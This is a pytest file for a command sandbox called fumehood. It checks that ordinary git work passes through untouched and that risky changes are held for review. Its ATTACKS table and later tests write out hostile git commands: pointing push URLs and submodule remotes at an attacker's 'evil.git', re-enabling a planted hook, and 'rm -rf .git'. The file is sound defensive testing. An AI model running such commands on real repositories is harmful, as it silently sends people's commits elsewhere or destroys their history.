"""An ordinary day of git in the hood is held nowhere; what sends a person's commits elsewhere never arrives unseen."""

import os
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from conftest import need
from fumehood import Policy, Run, Sandbox
from fumehood.service.opened import OpenedStore

pytestmark = [pytest.mark.namespaces, pytest.mark.once]

Git = Callable[..., str]

# A step a run, in this order; `$R` is the remote, `$L` another repository to fetch from.
DAY = {
    "author": "git config user.name Ada; git config user.email ada@example.org; git config pull.rebase false",
    "init again": "git init -q",
    "branch": "git switch -qc topic",
    "commit": "echo 2 > two; git add two; git commit -qm two",
    "amend": "echo 2.1 > two; git commit -qa --amend -m 'two, better'",
    "push": "git push -qu origin topic",
    "push again": "git commit -q --allow-empty -m more; git push -q",
    "describe": """GIT_EDITOR='sh -c "echo what it is for > \\"\\$1\\"" x' git branch --edit-description""",
    "rename": "git branch -m subject; git branch --unset-upstream; git branch -qu origin/topic",
    "copy": "git branch -qc copied; git branch -qD copied",
    "diverge": "git switch -q main; echo 3 > three; git add three; git commit -qm three",
    "rebase": "git switch -q subject; git rebase -q main",
    "rebase by a list": "GIT_SEQUENCE_EDITOR='sed -i 1s/^pick/reword/' GIT_EDITOR=true git rebase -qi HEAD~2",
    "rebase that stops": "GIT_SEQUENCE_EDITOR='sed -i 1s/^pick/edit/' git rebase -qi HEAD~1",
    "rebase that goes on": "GIT_EDITOR=true git rebase --continue",
    "conflict": "git switch -qc other main; echo x > one; git commit -qam x; git switch -q subject; echo y > one;"
                " git commit -qam y; git merge other && exit 1; git rev-parse MERGE_HEAD",
    "merge": "echo z > one; git commit -qam merged",
    "cherry-pick": "git switch -q main; git cherry-pick other~0; git revert --no-edit HEAD; git reset -q --hard HEAD~2",
    "stash": "echo w > one; echo u > untracked; git stash -qu; test ! -e untracked",
    "pop the stash": "git stash pop -q; git checkout -q one; rm untracked",
    "tag": "git tag light; git tag -a -m 'version 1' v1; git push -q origin v1",
    "fetch": "git fetch -q --prune --tags",
    "default branch": "git remote set-head origin main",  # newer versions do so when they fetch
    "pull": "git switch -q main; git pull -q; git pull -q --rebase; git merge -q --ff-only origin/main",
    "follow": "git switch -q -c follower --track origin/topic; git switch -q main",
    "follow a branch here": "git branch -q --track below main",
    "delete": "git branch -qD follower below other; git push -q origin :topic",
    "clone": "git clone -q $L cloned; git -C cloned switch -qc x",
    "clone, used": "cd cloned; echo 1 > x; git add x; git commit -qm x; git branch -qm y; git fetch -q; git gc -q",
    "clone in another form": "git clone -q --bare $L bare.git; git clone -q --mirror $L mirror",
    "clone, kept in shape": "git -C bare.git branch -q x; git -C mirror fetch -q; git -C mirror gc -q",
    "clone, thrown away": "rm -rf bare.git mirror",
    "submodule": "git submodule --quiet add $L lib; git commit -qm lib",
    "submodule, away": "git submodule --quiet deinit -f lib",
    "submodule, back": "git submodule --quiet update --init",
    "submodule, used": "cd lib; git switch -qc mine; echo 1 > x; git add x; git commit -qm x; git switch -qd @~",
    "submodule, updated": "git submodule --quiet sync; git submodule --quiet update --remote; git commit -qam updated",
    "work tree": "git worktree add -q tree -b tree",
    "work tree, used": "cd tree; echo 9 > nine; git add nine; git commit -qm nine",
    "work tree with submodule": "cd tree; git submodule --quiet update --init",
    "work tree, locked": "git worktree lock tree; git worktree repair; git -C tree switch -qc bush",
    "work tree, removed": "git worktree remove -ff tree; git branch -qD tree bush; git worktree prune",
    "sparse": "git sparse-checkout set docs",
    "sparse, more": "git sparse-checkout add src; git worktree add -q wood; git worktree remove wood",
    "sparse, no more": "git sparse-checkout disable",
    "bisect": "git bisect start HEAD HEAD~2; git bisect run true; git bisect reset",
    "tidy up": "git gc -q --prune=now; git repack -qad; git pack-refs --all; git maintenance run; git fsck",
    "push the day": "git push -q origin main; git push -q --tags; git branch -vv; git status --short",
}  # fmt: skip


@pytest.fixture
def host(home: Path, project: Path) -> Git:
    """The person's own git, in the project unless told otherwise."""
    need(shutil.which("git") is not None, "git is not installed")
    settings = "[user]\nname = Ada\nemail = a@b\n[init]\ndefaultBranch = main\n[protocol \"file\"]\nallow = always\n"
    (home / ".gitconfig").write_text(settings)

    def git(*arguments: str | Path, cwd: Path = project, fails: bool = False) -> str:
        env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "LC_ALL": "C.UTF-8"}
        done = subprocess.run(["git", *arguments], cwd=cwd, env=env, capture_output=True, text=True, check=False)
        assert fails or done.returncode == 0, (arguments, done.stderr)
        return done.stdout

    return git


def commit(git: Git, name: str, cwd: Path, text: str = "text\n") -> None:
    (cwd / name).write_text(text)
    git("add", name, cwd=cwd)
    git("commit", "-qm", name, cwd=cwd)


@pytest.fixture
def library(host: Git, test_directory: Path) -> Path:
    """A repository that commands may read."""
    place = test_directory / "library"
    host("init", "-q", place, cwd=test_directory)
    commit(host, "one", place)
    return place


BESIDE, INSIDE, LINKED = "the remote is another root", "the remote lies in the project", "the project is a work tree"


@pytest.fixture
def shape(request: pytest.FixtureRequest) -> str:
    """How the project and its remote lie; the first unless a test names others."""
    shape: str = getattr(request, "param", BESIDE)
    return shape


@pytest.fixture
def remote(host: Git, project: Path, test_directory: Path, shape: str) -> Path:
    """The bare repository that the project was cloned from, and that commands may write."""
    place = (project if shape == INSIDE else test_directory) / "remote.git"
    main = test_directory / "main" if shape == LINKED else project
    host("init", "-q", "--bare", test_directory / "remote.git", cwd=test_directory)
    host("clone", "-q", test_directory / "remote.git", main, cwd=test_directory)
    if shape == INSIDE:
        (test_directory / "remote.git").rename(place)
        host("remote", "set-url", "origin", str(place))
    commit(host, ".gitignore", main, "cloned\ntree\nwood\n*.git\nmirror\n")
    commit(host, "one", main)
    host("push", "-qu", "origin", "main", cwd=main)
    if shape == LINKED:
        host("switch", "-q", "--detach", cwd=main)
        host("worktree", "add", "-q", "-f", project, "main", cwd=main)
    return place


@pytest.fixture
def hood(home: Path, project: Path, remote: Path, shape: str) -> Iterator[Sandbox]:
    others = {BESIDE: [remote], INSIDE: [], LINKED: [remote, project.parent / "main/.git"]}
    store = OpenedStore()
    for root in others[shape]:
        store.projects.add_root(store.projects.open(str(project)), str(root))
    store.close()
    with Sandbox(project) as sandbox:
        yield sandbox


def waiting(run: Run) -> dict[str, str]:
    return {change.path: f"{change.verdict}: {change.reason}" for change in run.changes if change.verdict != "applied"}


@pytest.mark.parametrize(
    "shape", [BESIDE, *(pytest.param(shape, marks=pytest.mark.long) for shape in (INSIDE, LINKED))], indirect=True
)
def test_an_ordinary_day_of_git_is_held_nowhere(
    hood: Sandbox, host: Git, project: Path, remote: Path, library: Path
) -> None:
    colleague = project.parent / "colleague"
    for step, line in DAY.items():
        if step == "fetch":
            host("clone", "-q", remote, colleague, cwd=project.parent)
            commit(host, "theirs", colleague)
            host("push", "-q", cwd=colleague)
        if step == "submodule, updated":
            commit(host, "two", library)
        run = hood.run(f"set -e; R={remote} L={library}; {line}")
        assert run.exit_code == 0, (step, run.output)
        assert not waiting(run), step
        assert run.state == "applied", step
    assert host("status", "--porcelain") == ""
    host("fsck", "--strict")
    host("fsck", "--strict", cwd=remote)
    assert host("rev-parse", "main") == host("rev-parse", "main", cwd=remote)
    assert host("rev-parse", "v1") == host("rev-parse", "v1", cwd=remote)
    assert "lib" in host("submodule", "status")


# What a person had, what a command does to it, what the person types later, and how the harm shows. `$E` is the
# attacker's repository, `$M` a file that shows that something ran.
PUSH = "echo new > one; git commit -q --allow-empty -am new; git push -q"
SENT = "git -C $E rev-parse -q --verify main"
RAN = "test -e $M"
LIB = "git submodule --quiet add $L lib; git commit -qm lib; git -C lib config user.name A"
PRODUCTION = "git push -q origin main:production; git -C $R rev-parse production > ../production"
DESTROYED = 'test "$(git -C $R rev-parse -q --verify production)" != "$(cat ../production)"'
HOOK = (
    "printf '#!/bin/sh\\ntouch $M\\n' | sed s,.M,$M, > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
    " git config core.hooksPath /dev/null"
)
PROMISED = (
    "git config core.repositoryFormatVersion 1; git config extensions.partialClone x; git remote add x ssh://x/x;"
    " git config remote.x.promisor true"
)
IN_LIB = "cd lib; git commit -q --allow-empty -m x; git push -q"
ANOTHER = "cp -r .git/modules/lib .git/modules/x; git config -f .git/modules/x/config remote.origin.url $E"
OF_ITS_OWN = "rm lib/.git; cp -r .git/modules/lib lib/.git; git config -f lib/.git/config --unset core.worktree"
ATTACKS = {
    "another address": ("true", "git remote set-url origin $E", PUSH, SENT),
    "another address to push to": ("true", "git config remote.origin.pushurl $E", PUSH, SENT),
    "one more address": ("true", "git remote set-url --add --push origin $E", PUSH, SENT),
    "another branch to push to": (
        PRODUCTION, "git config remote.origin.push +refs/heads/main:refs/heads/production", PUSH, DESTROYED,
    ),
    "a mirror": (PRODUCTION, "git config remote.origin.mirror true", PUSH, DESTROYED),
    "another remote to push to": (
        "true", "git remote add x $E; git config remote.pushDefault x; git config push.default current", PUSH, SENT,
    ),
    "a branch's remote by its path": ("true", "git config branch.main.remote $E", PUSH, SENT),
    "a branch's own remote to push to": (
        "git remote add x $E; git config push.default current", "git config branch.main.pushRemote x", PUSH, SENT,
    ),
    "missing objects from elsewhere": (
        "true",
        f"{PROMISED}; f=$(git rev-parse @:one | sed s,^..,\\&/,); rm -f .git/objects/$f", "git show @:one", RAN,
    ),
    "the address to push to, taken out": (
        "git config remote.origin.pushurl $R; git config remote.origin.url $E",
        "git config --unset remote.origin.pushurl", PUSH, SENT,
    ),
    "one of two addresses, taken out": (
        "git config --add remote.origin.pushurl $E; git config remote.origin.pushurl $R",
        "git config remote.origin.pushurl $E", PUSH, SENT,
    ),
    "what keeps hooks away, taken out": (HOOK, "git config --unset core.hooksPath", PUSH, RAN),
    "the configuration, taken out": (HOOK, "rm .git/config", "echo new > one; git commit -qam new", RAN),
    "settings of the work tree": (
        "true", "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl $E", PUSH, SENT,
    ),
    "settings of another work tree": (
        "git config extensions.worktreeConfig true",
        "git worktree add -q tree; git -C tree config --worktree remote.origin.pushurl $E",
        "cd tree; git commit -q --allow-empty -m x; git push -q origin tree:main", SENT,
    ),
    "another repository in its place": (
        "true", "rm -rf .git; git clone -q $R x; mv x/.git .git; git remote set-url origin $E", PUSH, SENT,
    ),
    "a repository among the files of another": (
        "mkdir src; touch src/x; git add src; git commit -qm src",
        "cd src; git init -q; git add .; git commit -qm x; git remote add origin $E; git config push.default current",
        "cd src; echo new > x; git commit -q --allow-empty -am new; git push -q", SENT,
    ),
    "a submodule's address": (LIB, "git -C lib remote set-url origin $E", IN_LIB, SENT),
    "another repository for a submodule": (
        LIB, f"{ANOTHER}; echo 'gitdir: ../.git/modules/x' > lib/.git", IN_LIB, SENT,
    ),
    "a submodule with a repository of its own": (
        LIB, f"{OF_ITS_OWN}; git -C lib remote set-url origin $E", IN_LIB, SENT,
    ),
    "a bare repository in the project": (
        "git clone -q --bare $L x.git", "git -C x.git remote set-url origin $E", "git -C x.git push -q origin main",
        SENT,
    ),
    "an old-style remote": (
        "git remote rm origin; mkdir -p .git/remotes; printf 'URL: %s\\n' $R > .git/remotes/origin",
        "printf 'URL: %s\\n' $E > .git/remotes/origin", f"{PUSH} origin main", SENT,
    ),
}  # fmt: skip


@pytest.fixture
def typed(host: Git, project: Path, remote: Path, library: Path, test_directory: Path) -> Callable[[str], bool]:
    """What a person types in a shell of their own, in the project; tells whether all of it went well."""
    ssh, mark, evil = test_directory / "ssh", test_directory / "mark", test_directory / "evil.git"
    ssh.write_text(f"#!/bin/sh\ntouch {mark}\nexit 1\n")
    ssh.chmod(0o755)
    host("init", "-q", "--bare", evil, cwd=test_directory)
    env = {"GIT_SSH_COMMAND": str(ssh), "R": str(remote), "L": str(library), "E": str(evil), "M": str(mark)}

    def shell(line: str) -> bool:
        done = subprocess.run(["sh", "-ec", line], cwd=project, env={**os.environ, **env}, check=False)
        return done.returncode == 0

    return shell


def test_a_directory_that_git_can_not_rename_is_explained_and_the_hint_leads_on(
    sandbox: Sandbox, project: Path
) -> None:
    (project / "old").mkdir()
    (project / "old/file").write_text("x")
    assert sandbox.run("git init -q; git add -A").exit_code == 0
    run = sandbox.run("git mv old new")
    need(run.exit_code != 0, "this kernel's overlays rename directories")
    assert [each.what for each in run.blocked] == ["rename"]
    hinted = run.blocked[0].hint.partition("In place of git mv: ")[2].replace("OLD", "old").replace("NEW", "new")
    assert sandbox.run(f"{hinted} && git ls-files").stdout == "new/file\n"


@pytest.mark.long
@pytest.mark.parametrize("attack", ATTACKS)
def test_only_a_persons_word_lets_git_send_data_elsewhere(
    hood: Sandbox, typed: Callable[[str], bool], remote: Path, library: Path, attack: str
) -> None:
    before, line, later, harm = ATTACKS[attack]
    assert typed(before)
    evil = remote.parent / "evil.git"
    run = hood.run(f"set -e; R={remote} L={library} E={evil}; {line}")
    assert run.exit_code == 0, run.output
    assert run.state == "held"
    typed(later)
    assert not typed(harm)
    hood.apply(run)
    typed(later)
    assert typed(harm)


@pytest.mark.parametrize("shape", [LINKED], indirect=True)
@pytest.mark.parametrize(
    "line",
    ["git config remote.origin.pushurl $E", "git -C $R config remote.x.url $E", "rm ../main/.git/config",
     "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl $E",
     "rm .git; git init -q; git remote add origin $E"],
)  # fmt: skip
def test_a_repository_that_is_a_root_of_its_own_is_judged_as_one_that_was_there(
    hood: Sandbox, typed: Callable[[str], bool], remote: Path, line: str
) -> None:
    run = hood.run(f"set -e; R={remote} E={remote.parent}/evil.git; {line}")
    assert run.exit_code == 0, run.output
    assert run.state == "held"
    typed(PUSH)
    assert not typed(SENT)


def test_a_repository_is_not_replaced_in_two_runs_either(
    hood: Sandbox, typed: Callable[[str], bool], project: Path
) -> None:
    first = hood.run("mv .git x")
    assert waiting(first).keys() >= {".git"}
    second = hood.run(f"cp -r x .git; git remote set-url origin {project.parent}/evil.git")
    assert ".git/config" in waiting(second)
    typed(PUSH)
    assert not typed(SENT)


LOSSES = {
    "rm .git/config": ".git/config",
    "rm -rf .git": ".git",
    "rm -rf .git; git init -q": ".git/config",
    "rm -rf x.git; git init -q --bare x.git": "x.git/config",
}


@pytest.mark.long
@pytest.mark.parametrize("line", LOSSES)
def test_what_git_would_lose_is_seen_by_every_way_of_capturing(
    typed: Callable[[str], bool], project: Path, way: str, line: str
) -> None:
    assert typed("git clone -q --bare $L x.git; mkdir -p .git/remotes; echo 'URL: x' > .git/remotes/x")
    with Sandbox(project, Policy(capture=way)) as sandbox:
        run = sandbox.run(line)
        assert run.exit_code == 0, run.output
        assert waiting(run).get(LOSSES[line], "").startswith("held")
    kept = ("git config -f .git/config remote.origin.url", "git config -f x.git/config remote.origin.url")
    assert all(map(typed, (*kept, "test -e .git/remotes/x")))
